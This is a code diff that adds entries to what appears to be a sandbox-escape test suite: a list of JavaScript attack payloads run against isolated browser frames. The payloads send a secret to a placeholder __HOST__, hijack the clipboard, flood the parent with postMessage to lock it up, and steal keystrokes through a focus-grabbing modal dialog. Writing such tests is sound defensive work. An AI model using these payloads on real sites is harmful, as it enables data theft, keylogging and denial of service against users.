@@ -148,6 +148,7 @@ ATTACKS: tuple[Attack, ...] = (
     _attack("image_of_the_host", "let i=new Image();i.onload=i.onerror=()=>0;i.src='http://__HOST__/secret'"),
     _attack("form_to_the_host", "f.submit()", body="<form id=f method=post action='http://__HOST__/secret'></form>"),
     _attack("frame_of_the_host", "location.href='http://__HOST__/secret'"),
+    _attack("query_on_its_own_address", "setTimeout(()=>{location.href=location.pathname+'?secret'},200)"),
     _attack(
         "text_of_a_neighbour", "let r=await fetch('__SIBLING__');let t=await r.text();if(t.includes('VICTIM'))win(t)"
     ),
@@ -217,6 +218,11 @@ ATTACKS: tuple[Attack, ...] = (
         "locks",
         "for(let i=0;i<8;i++){let l=await navigator.locks.query();if(l.held.length)win(l.held.length);await new Promise(r=>setTimeout(r,150))}",
     ),
+    _on_click(
+        "clipboard_written",
+        "addEventListener('copy',e=>{e.clipboardData.setData('text/plain','evil');e.preventDefault()});"
+        "RegExp.prototype.exec=()=>null;if(document.execCommand('cOpy'))win('copied')",
+    ),
     # --- The person is disturbed ----------------------------------------------------------------------------------
     _attack(
         "dialogs",
@@ -264,6 +270,18 @@ ATTACKS: tuple[Attack, ...] = (
         "",
         body="<iframe srcdoc='<script>setInterval(()=>{for(let i=0;i<4000;i++)top.postMessage({k:`x`.repeat(1000)},`*`)},0)</script>'></iframe>",
     ),
+)
+
+HUGE_MESSAGE = _attack(
+    "one_huge_message",
+    "let a=[];for(let i=0;i<4e6;i++)a.push({i});for(let w of [parent,top])w.postMessage(a,'*')",
+)
+"""Takes many seconds to put together again, for whoever reads it."""
+KEYBOARD_FROM_A_NEIGHBOUR = _attack(
+    "keyboard_from_a_neighbour",
+    "let g=()=>{let d=document.createElement('dialog');d.innerHTML='<input autofocus>';document.body.append(d);"
+    "d.showModal();d.firstChild.oninput=e=>{win(e.target.value)}};"
+    "setTimeout(()=>setInterval(g,60),2000)",
 )
 
 
